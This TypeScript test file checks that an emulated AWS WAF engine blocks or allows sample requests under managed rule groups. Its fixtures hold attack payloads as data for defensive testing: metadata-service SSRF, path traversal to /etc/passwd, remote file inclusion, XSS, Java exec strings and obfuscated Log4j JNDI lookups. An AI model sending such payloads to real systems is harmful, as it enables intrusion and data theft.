import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { WebRequest } from '../../src/core/seams.ts';
import { evaluateRules } from '../../src/services/wafv2/engine/evaluate.ts';
import { inspectRequest } from '../../src/services/wafv2/engine/request.ts';
import { containsLog4jLookup } from '../../src/services/wafv2/managed/known-bad-inputs.ts';
import { validateStatement } from '../../src/services/wafv2/validate-statement.ts';
import { logRecord } from '../../src/services/wafv2/waf-logs.ts';
import { acl, managedGroupRule, request } from './engine-fixtures.ts';

const UA: [string, string] = ['User-Agent', 'Mozilla/5.0'];
const get = (overrides: Partial<WebRequest>) => request({ headers: [['Host', 'example.com'], UA], ...overrides });
const post = (body: string) => get({ method: 'POST', body: Buffer.from(body) });
const query = (queryString: string) => get({ queryString });
const path = (uriPath: string) => get({ uriPath });
const withHeaders = (...headers: [string, string][]) => request({ headers: [['Host', 'example.com'], UA, ...headers] });

function verdict(group: string, req: WebRequest) {
  const result = evaluateRules(acl([managedGroupRule(group)]), inspectRequest(req));
  return { action: result.action, rule: result.ruleNameWithinRuleGroup, labels: result.labels };
}

const CRS = 'AWSManagedRulesCommonRuleSet';
const CRS_LABEL = 'awswaf:managed:aws:core-rule-set:';
const CRS_CASES: [string, WebRequest, string][] = [
  ['NoUserAgent_HEADER', request({ headers: [['Host', 'example.com']] }), 'NoUserAgent_Header'],
  ['NoUserAgent_HEADER', request({ headers: [['Host', 'example.com'], ['User-Agent', '']] }), 'NoUserAgent_Header'],
  ['UserAgent_BadBots_HEADER', request({ headers: [['Host', 'example.com'], ['User-Agent', 'Mozilla/5.0 (compatible; Nmap Scripting Engine)']] }), 'BadBots_Header'],
  ['SizeRestrictions_QUERYSTRING', query(`q=${'a'.repeat(2047)}`), 'SizeRestrictions_QueryString'],
  ['SizeRestrictions_Cookie_HEADER', withHeaders(['Cookie', `c=${'a'.repeat(10239)}`]), 'SizeRestrictions_Cookie_Header'],
  ['SizeRestrictions_BODY', post('a'.repeat(8193)), 'SizeRestrictions_Body'],
  ['SizeRestrictions_URIPATH', path(`/${'a'.repeat(1024)}`), 'SizeRestrictions_URIPath'],
  ['EC2MetaDataSSRF_BODY', post('url=http://169.254.169.254/latest/meta-data/'), 'EC2MetaDataSSRF_Body'],
  ['EC2MetaDataSSRF_COOKIE', withHeaders(['Cookie', 'next=http%3A%2F%2F169.254.169.254%2F']), 'EC2MetaDataSSRF_Cookie'],
  ['EC2MetaDataSSRF_URIPATH', path('/proxy/169.254.169.254/latest'), 'EC2MetaDataSSRF_URIPath'],
  ['EC2MetaDataSSRF_QUERYARGUMENTS', query('url=http://2852039166/latest'), 'EC2MetaDataSSRF_QueryArguments'],
  ['GenericLFI_QUERYARGUMENTS', query('file=..%2F..%2Fetc%2Fpasswd'), 'GenericLFI_QueryArguments'],
  ['GenericLFI_URIPATH', path('/static/%2e%2e/%2e%2e/etc/passwd'), 'GenericLFI_URIPath'],
  ['GenericLFI_BODY', post('file=..\\..\\windows\\win.ini'), 'GenericLFI_Body'],
  ['RestrictedExtensions_URIPATH', path('/logs/app.LOG'), 'RestrictedExtensions_URIPath'],
  ['RestrictedExtensions_QUERYARGUMENTS', query('download=settings.ini'), 'RestrictedExtensions_QueryArguments'],
  ['GenericRFI_QUERYARGUMENTS', query('page=http://192.0.2.10/shell.txt'), 'GenericRFI_QueryArguments'],
  ['GenericRFI_BODY', post('include=ftp://198.51.100.4/x'), 'GenericRFI_Body'],
  ['GenericRFI_URIPATH', path('/fetch/http:%2F%2F203.0.113.9/x'), 'GenericRFI_URIPath'],
  ['CrossSiteScripting_COOKIE', withHeaders(['Cookie', 'name=<script>alert(1)</script>']), 'CrossSiteScripting_Cookie'],
  ['CrossSiteScripting_QUERYARGUMENTS', query('q=%3Cscript%3Ealert(1)%3C/script%3E'), 'CrossSiteScripting_QueryArguments'],
  ['CrossSiteScripting_BODY', post('comment=<img src=x onerror=alert(1)>'), 'CrossSiteScripting_Body'],
  ['CrossSiteScripting_URIPATH', path('/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E'), 'CrossSiteScripting_URIPath'],
];

for (const [ruleName, req, label] of CRS_CASES) {
  test(`CommonRuleSet ${ruleName} blocks with ${label}`, () => {
    assert.deepEqual(verdict(CRS, req), { action: 'BLOCK', rule: ruleName, labels: [CRS_LABEL + label] });
  });
}

const BENIGN: [string, WebRequest][] = [
  ['plain GET', get({})],
  ['query at the size limit', query(`q=${'a'.repeat(2046)}`)],
  ['URI path at the size limit', path(`/${'a'.repeat(1023)}`)],
  ['body at the size limit', post('a'.repeat(8192))],
  ['JSON body', post('{"name":"Ann","note":"see http://example.com/docs"}')],
  ['dotted file name', path('/files/report.v2.pdf')],
  ['URL with a host name', query('next=https://example.com/home')],
  ['word "admin" in a query value', query('role=admin')],
  ['IP address without a scheme', query('ip=192.0.2.1')],
];

for (const [name, req] of BENIGN) {
  test(`CommonRuleSet allows ${name}`, () => {
    assert.deepEqual(verdict(CRS, req), { action: 'ALLOW', rule: undefined, labels: [] });
  });
}

const KBI = 'AWSManagedRulesKnownBadInputsRuleSet';
const KBI_LABEL = 'awswaf:managed:aws:known-bad-inputs:';
const KBI_CASES: [string, WebRequest, string][] = [
  ['JavaDeserializationRCE_HEADER', withHeaders(['X-Payload', '(java.lang.Runtime).getRuntime().exec("whoami")']), 'JavaDeserializationRCE_Header'],
  ['JavaDeserializationRCE_BODY', post('class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'), 'JavaDeserializationRCE_Body'],
  ['JavaDeserializationRCE_BODY', post('rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'), 'JavaDeserializationRCE_Body'],
  ['JavaDeserializationRCE_URIPATH', path('/api/T(java.lang.Runtime)'), 'JavaDeserializationRCE_URIPath'],
  ['JavaDeserializationRCE_QUERYSTRING', query('x=java.lang.ProcessBuilder'), 'JavaDeserializationRCE_QueryString'],
  ['Host_localhost_HEADER', request({ headers: [['Host', 'localhost:8080'], UA] }), 'Host_Localhost_Header'],
  ['PROPFIND_METHOD', get({ method: 'PROPFIND' }), 'Propfind_Method'],
  ['ExploitablePaths_URIPATH', path('/app/WEB-INF/web.xml'), 'ExploitablePaths_URIPath'],
  ['Log4JRCE_HEADER', withHeaders(['X-Api-Version', '${jndi:ldap://example.com/a}']), 'Log4JRCE_Header'],
  ['Log4JRCE_HEADER', withHeaders(['Referer', '${${lower:j}${::-n}di:rmi://example.com/a}']), 'Log4JRCE_Header'],
  ['Log4JRCE_QUERYSTRING', query('q=%24%7Bjndi%3Adns%3A%2F%2Fexample.com%7D'), 'Log4JRCE_QueryString'],
  ['Log4JRCE_BODY', post('{"a":"${${env:NONE:-j}ndi:ldaps://example.com/x}"}'), 'Log4JRCE_Body'],
  ['Log4JRCE_URIPATH', path('/%24%7Bjndi:ldap://example.com/x%7D'), 'Log4JRCE_URIPath'],
];

for (const [ruleName, req, label] of KBI_CASES) {
  test(`KnownBadInputs ${ruleName} blocks with ${label}`, () => {
    assert.deepEqual(verdict(KBI, req), { action: 'BLOCK', rule: ruleName, labels: [KBI_LABEL + label] });
  });
}

const KBI_BENIGN: [string, WebRequest][] = [
  ['plain GET', get({})],
  ['host that contains localhost', request({ headers: [['Host', 'localhost.example.com'], UA] })],
  ['template text', post('Hello ${name}, your order is ready')],
  ['java word', query('lang=java&topic=runtime')],
  ['web path', path('/web/info')],
];

for (const [name, req] of KBI_BENIGN) {
  test(`KnownBadInputs allows ${name}`, () => {
    assert.deepEqual(verdict(KBI, req), { action: 'ALLOW', rule: undefined, labels: [] });
  });
}

test('Log4j lookup reduction', () => {
  assert.equal(containsLog4jLookup('${jndi:ldap://x}'), true);
  assert.equal(containsLog4jLookup("${${date:'j'}ndi:ldap://x}"), true);
  assert.equal(containsLog4jLookup('${upper:j}ndi:rmi://x'), true);
  assert.equal(containsLog4jLookup('jndi:ldap://x'), false);
  assert.equal(containsLog4jLookup('${java:version}'), false);
});

const ADMIN = 'AWSManagedRulesAdminProtectionRuleSet';
const ADMIN_CASES: [string, WebRequest, boolean][] = [
  ['/admin', path('/admin'), true],
  ['/Admin/ with trailing slash', path('/Dev/Admin/'), true],
  ['/sqlmanager/', path('/tools/sqlmanager/index.php'), true],
  ['encoded wp-admin', path('/%77p-admin/'), true],
  ['administration words in segments', path('/docs/administration'), false],
  ['query argument', query('page=admin'), false],
];

for (const [name, req, blocked] of ADMIN_CASES) {
  test(`AdminProtection ${name}`, () => {
    const expected = blocked
      ? { action: 'BLOCK', rule: 'AdminProtection_URIPATH', labels: ['awswaf:managed:aws:admin-protection:AdminProtection_URIPath'] }
      : { action: 'ALLOW', rule: undefined, labels: [] };
    assert.deepEqual(verdict(ADMIN, req), expected);
  });
}

test('managed group ScopeDownStatement skips other requests', () => {
  const scopeDown = { ByteMatchStatement: { SearchString: Buffer.from('/api/').toString('base64'), FieldToMatch: { UriPath: {} }, PositionalConstraint: 'STARTS_WITH', TextTransformations: [{ Priority: 0, Type: 'NONE' }] } };
  const web = acl([managedGroupRule(ADMIN, { ScopeDownStatement: scopeDown })]);
  assert.equal(evaluateRules(web, inspectRequest(path('/admin'))).action, 'ALLOW');
  assert.equal(evaluateRules(web, inspectRequest(path('/api/admin'))).action, 'BLOCK');
});

test('managed group RuleActionOverrides Count continues to later rules', () => {
  const web = acl([managedGroupRule(KBI, { RuleActionOverrides: [{ Name: 'Host_localhost_HEADER', ActionToUse: { Count: {} } }] })]);
  const result = evaluateRules(web, inspectRequest(request({ method: 'PROPFIND', headers: [['Host', 'localhost'], UA] })));
  assert.equal(result.action, 'BLOCK');
  assert.equal(result.ruleNameWithinRuleGroup, 'PROPFIND_METHOD');
  assert.deepEqual(result.labels, [`${KBI_LABEL}Host_Localhost_Header`, `${KBI_LABEL}Propfind_Method`]);
  // The WAF log lists the counted group rule beside the one that blocked.
  assert.deepEqual(result.matches[0].countedWithinRuleGroup, ['Host_localhost_HEADER']);
  const record = logRecord(web, request({ method: 'PROPFIND', headers: [['Host', 'localhost'], UA] }), result, { name: 'APIGW', id: 'stage' }, 'request-1', 0);
  assert.deepEqual(record.ruleGroupList[0].terminatingRule, { ruleId: 'PROPFIND_METHOD', action: 'BLOCK', ruleMatchDetails: null });
  assert.deepEqual(record.ruleGroupList[0].nonTerminatingMatchingRules.map((entry) => [entry.ruleId, entry.action]), [['Host_localhost_HEADER', 'COUNT']]);
  // Loopback is in no configured geo range.
  assert.equal(record.httpRequest.country, '-');
});

test('managed group Version accepts published versions only', () => {
  const statement = (Version: string) => ({ ManagedRuleGroupStatement: { VendorName: 'AWS', Name: CRS, Version } });
  assert.equal(validateStatement(statement('Version_1.0'), true), 700);
  assert.throws(() => validateStatement(statement('Version_9.9'), true), {
    name: 'WAFInvalidParameterException',
    message: 'Error reason: The value is not one of the allowed options., field: MANAGED_RULE_SET_STATEMENT, parameter: Version_9.9',
  });
});

test('unknown managed group is an error', () => {
  assert.throws(() => validateStatement({ ManagedRuleGroupStatement: { VendorName: 'AWS', Name: 'AWSManagedRulesBotControlRuleSet' } }, true), {
    name: 'WAFInvalidParameterException',
    message: 'Error reason: palisade does not provide this managed rule group, field: MANAGED_RULE_SET_STATEMENT, parameter: AWS/AWSManagedRulesBotControlRuleSet',
  });
});

test('ManagedRuleGroupConfigs is rejected', () => {
  assert.throws(() => validateStatement({ ManagedRuleGroupStatement: { VendorName: 'AWS', Name: CRS, ManagedRuleGroupConfigs: [{}] } }, true), { name: 'WAFInvalidParameterException' });
});
